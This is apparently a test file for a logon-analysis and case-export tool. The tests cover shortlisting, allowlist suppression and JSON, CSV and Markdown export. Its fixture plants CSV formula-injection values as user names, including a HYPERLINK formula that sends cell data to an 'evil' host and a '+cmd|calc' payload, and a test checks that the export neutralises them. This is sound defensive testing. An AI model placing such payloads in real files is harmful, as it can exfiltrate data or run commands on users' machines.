import {test} from 'node:test';
import assert from 'node:assert/strict';
import {openMemoryDb, type Db} from '../../source/db/open.ts';
import {finishDataset, insertDataset, logonInserter} from '../../source/db/store.ts';
import {markPair, unmarkPair, listMarks} from '../../source/db/shortlist.ts';
import {insertEntries} from '../../source/db/allowlist.ts';
import {validateEntry} from '../../source/allowlist/entry.ts';
import {buildCase} from '../../source/commands/export.ts';
import {toCaseCsv, toCaseJson, toCaseMarkdown} from '../../source/export/case.ts';
import type {Logon} from '../../source/ingest/types.ts';

const T0 = Date.parse('2026-11-05T02:00:00Z');

function fixture(): Db {
	const db = openMemoryDb();
	const id = insertDataset(db, {path: '/cases/x/security.ndjson', format: 'windows-json', sha256: 'f'});
	const insert = logonInserter(db, id);
	const logon = (src: string, user: string, target: string, minute: number, outcome: 'success' | 'failure' = 'success'): Logon => ({
		ts: T0 + minute * 60_000, outcome, event_id: outcome === 'success' ? 4624 : 4625, logon_type: 3,
		src_ip: src, src_port: null, src_host: 'WS-0042', user, domain: 'CORP', target, dst_host: target, dst_ip: null,
		service: 'network', auth_package: 'NTLM', log_source_type: null, raw_ref: minute + 1,
	});
	['SRV-DB01', 'SRV-APP01', 'SRV-FS01'].forEach((h, i) => insert(logon('10.10.3.7', 'adm-jdoe', h, i)));
	['WS-1', 'WS-2'].forEach((h, i) => insert(logon('10.10.9.9', '=HYPERLINK("http://evil/?"&A1,"click")', h, 10 + i)));
	['WS-1', 'WS-2'].forEach((h, i) => insert(logon('10.10.9.8', '+cmd|calc', h, 20 + i)));
	insert(logon('10.10.4.4', 'bob', 'SRV-FS01', 30));
	finishDataset(db, id, {records: 8, rejected: 0, skipped: 0, first_ts: T0, last_ts: T0 + 30 * 60_000, time_field: null});
	return db;
}

const options = {profile: 'qradar', tz: 'UTC', window: null} as const;

test('a shortlisted finding carries status, note and targets in JSON and Markdown', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe', status: 'escalated', note: 'SMB to 3 servers at 02:00', author: 'hunter'});
	const c = buildCase(db, options, false);
	const json = JSON.parse(toCaseJson(c)) as {scope: string; findings: Array<Record<string, unknown>>};
	assert.equal(json.scope, 'shortlist');
	assert.equal(json.findings.length, 1);
	const f = json.findings[0]!;
	assert.equal(f['status'], 'escalated');
	assert.equal(f['note'], 'SMB to 3 servers at 02:00');
	assert.deepEqual(f['targets'], ['SRV-APP01', 'SRV-DB01', 'SRV-FS01']);
	assert.equal((f['evidence'] as unknown[]).length, 3);
	assert.ok(Array.isArray(f['reasons']));
	const markdown = toCaseMarkdown(c);
	assert.match(markdown, /## adm-jdoe from 10\.10\.3\.7: score 4/);
	assert.match(markdown, /Status: \*\*escalated\*\*, note: SMB to 3 servers at 02:00 \(marked by hunter\)/);
	assert.match(markdown, /Target hosts \(3\): SRV-APP01, SRV-DB01, SRV-FS01/);
	assert.match(markdown, /2026-11-05 02:00:00 success type=3 10\.10\.3\.7 -> SRV-DB01 user=adm-jdoe@CORP \[\/cases\/x\/security\.ndjson:1\]/);
});

test('a shortlisted pair that is not a finding is still exported, marked as not flagged', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.4.4', user: 'bob'});
	const json = JSON.parse(toCaseJson(buildCase(db, options, false))) as {findings: Array<Record<string, unknown>>};
	assert.equal(json.findings[0]!['score'], 0);
	assert.equal(json.findings[0]!['status'], 'open');
	assert.deepEqual(json.findings[0]!['targets'], ['SRV-FS01']);
});

test('a shortlisted pair the allowlist suppresses is exported as its finding without it, naming the entries that hide it', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe', status: 'escalated'});
	markPair(db, {src_ip: '10.10.4.4', user: 'bob'});
	const [hosts, other] = insertEntries(db, [
		validateEntry({kind: 'target', pattern: 'SRV-*', match: 'glob', reason: 'server sweep'}),
		validateEntry({kind: 'user', pattern: 'nobody', reason: 'matches none of its logons'}),
	], 'hunter');
	assert.ok(hosts && other);
	const c = buildCase(db, options, false);
	const [jdoe, bob] = c.findings.map(f => f.finding);
	assert.equal(jdoe!.score, 4, 'the score without the allowlist');
	assert.deepEqual(jdoe!.targets, ['SRV-APP01', 'SRV-DB01', 'SRV-FS01']);
	assert.deepEqual(jdoe!.reasons[0], {signal: 'allowlisted', points: 0, detail: `not a finding with the allowlist applied: suppressed by entry ${hosts} (target SRV-* (glob): server sweep); score and counts without it`});
	assert.match(toCaseMarkdown(c), /\| allowlisted \| 0 \| not a finding with the allowlist applied: suppressed by entry 1 \(target SRV-\\\* \(glob\): server sweep\)/);
	assert.match(toCaseCsv(c), /\n10\.10\.3\.7,adm-jdoe,escalated,,4,3,.*,allowlisted\+0 /);
	// bob's one logon is not a finding either way: still the zero-score stand-in.
	assert.equal(bob!.reasons[0]!.signal, 'not-flagged');
	// With the allowlist ignored, the finding is plain.
	const plain = buildCase(db, {...options, allowlist: false}, false).findings[0]!.finding;
	assert.notEqual(plain.reasons[0]!.signal, 'allowlisted');
	assert.equal(plain.score, 4);
});

test('a live finding\'s evidence leaves out the logons the allowlist suppresses, as its counts do', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe'});
	insertEntries(db, [validateEntry({kind: 'target', pattern: 'SRV-FS01', reason: 'file server'})], 'hunter');
	const json = JSON.parse(toCaseJson(buildCase(db, options, false))) as {findings: Array<{total: number; evidence_total: number; targets: string[]; evidence: Array<{target: string}>}>};
	const [jdoe] = json.findings;
	assert.deepEqual([jdoe!.total, jdoe!.evidence_total], [2, 2]);
	assert.deepEqual(jdoe!.targets, ['SRV-APP01', 'SRV-DB01']);
	assert.ok(!jdoe!.evidence.some(e => e.target === 'SRV-FS01'), 'the allowlisted logon is not evidence');
	const ignored = JSON.parse(toCaseJson(buildCase(db, {...options, allowlist: false}, false))) as {findings: Array<{total: number; evidence_total: number}>};
	assert.deepEqual([ignored.findings[0]!.total, ignored.findings[0]!.evidence_total], [3, 3], '--no-allowlist: every logon');
});

test('CSV of all findings leaves no live formula in any cell', () => {
	const csv = toCaseCsv(buildCase(fixture(), options, true));
	const cells = csv.trim().split('\n').slice(1).flatMap(line => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map(c => c.replace(/,$/, '').replace(/^"|"$/g, '')));
	for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
	assert.match(csv, /"'=HYPERLINK\(""http:\/\/evil\/\?""&A1,""click""\)"/);
	assert.match(csv, /'\+cmd\|calc/);
});

test('exports are deterministic and the applied allowlist is listed', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe'});
	insertEntries(db, [validateEntry({kind: 'target', pattern: 'WS-*', match: 'glob', reason: 'workstations'})], 'hunter');
	for (const all of [true, false]) {
		const a = buildCase(db, options, all);
		const b = buildCase(db, options, all);
		assert.equal(toCaseJson(a), toCaseJson(b));
		assert.equal(toCaseCsv(a), toCaseCsv(b));
		assert.equal(toCaseMarkdown(a), toCaseMarkdown(b));
	}

	const json = JSON.parse(toCaseJson(buildCase(db, options, true))) as {findings: unknown[]; applied_allowlist: Array<{pattern: string}>};
	assert.equal(json.findings.length, 1, 'the WS-* findings are suppressed');
	assert.deepEqual(json.applied_allowlist.map(e => e.pattern), ['WS-*']);
});

test('marking twice updates status and note; unmark removes', () => {
	const db = fixture();
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe', note: 'first look'});
	markPair(db, {src_ip: '10.10.3.7', user: 'adm-jdoe', status: 'benign'});
	assert.deepEqual(listMarks(db).map(m => [m.status, m.note]), [['benign', 'first look']]);
	assert.equal(unmarkPair(db, '10.10.3.7', 'adm-jdoe'), true);
	assert.equal(unmarkPair(db, '10.10.3.7', 'adm-jdoe'), false);
	assert.match(toCaseMarkdown(buildCase(db, options, false)), /Nothing is shortlisted yet/);
});
